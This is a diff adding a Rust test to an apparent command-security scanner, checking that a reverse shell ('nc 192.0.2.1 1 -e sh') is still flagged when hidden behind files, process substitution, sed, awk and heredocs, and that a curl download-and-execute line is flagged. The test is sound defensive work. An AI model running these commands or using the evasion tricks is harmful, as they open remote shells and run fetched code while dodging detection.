@@ -79,3 +79,33 @@ fn decoded_text_is_marked_and_judged_in_every_layer() {
         assert!(findings.by_rule().any(|(rule, _)| rule.id == "cmd-obfuscated"), "{command}");
     }
 }
+
+#[test]
+fn text_is_followed_through_files_substitutions_and_tools() {
+    let shell = "nc 192.0.2.1 1 -e sh";
+    for script in [
+        format!("echo '{shell}' > /tmp/a; sh < /tmp/a"),
+        format!("echo '{shell}' > /tmp/a; cat /tmp/a | sh"),
+        format!("echo '{shell}' > /tmp/a; eval \"$(cat /tmp/a)\""),
+        format!("echo '{shell}' > /tmp/a; mv /tmp/a /tmp/b; . /tmp/b"),
+        format!("cd /tmp; echo '{shell}' > a; sh /tmp/a"),
+        "curl -o /tmp/../tmp/m http://192.0.2.1/m; chmod +x /tmp//m; /proc/self/root/tmp/m".to_owned(),
+        format!("tee /tmp/a > /dev/null <<E\n{shell}\nE\nsh /tmp/a"),
+        format!("bash <(echo '{shell}')"),
+        format!("source <(printf '%s' '{shell}' | cat)"),
+        format!("{{ echo x | cat; echo '{shell}'; }} | sh"),
+        format!("sed -n '1e {shell}' /etc/hosts"),
+        format!("awk 'BEGIN {{ print \"{shell}\" | \"sh\" }}'"),
+    ] {
+        let container = serde_json::json!({"name": "a", "command": ["bash", "-c", script]}).to_string();
+        assert!(judged(&container).0 >= Severity::High, "{script}");
+    }
+    for script in [
+        format!("echo '{shell}' > /tmp/a; cat /tmp/a | wc -l"),
+        format!("echo '{shell}' > /tmp/a; mv /tmp/a /srv/report; echo done | sh"),
+        format!("diff <(echo '{shell}') /etc/hosts"),
+    ] {
+        let container = serde_json::json!({"name": "a", "command": ["bash", "-c", script]}).to_string();
+        assert!(judged(&container).0 < Severity::Medium, "{script}");
+    }
+}
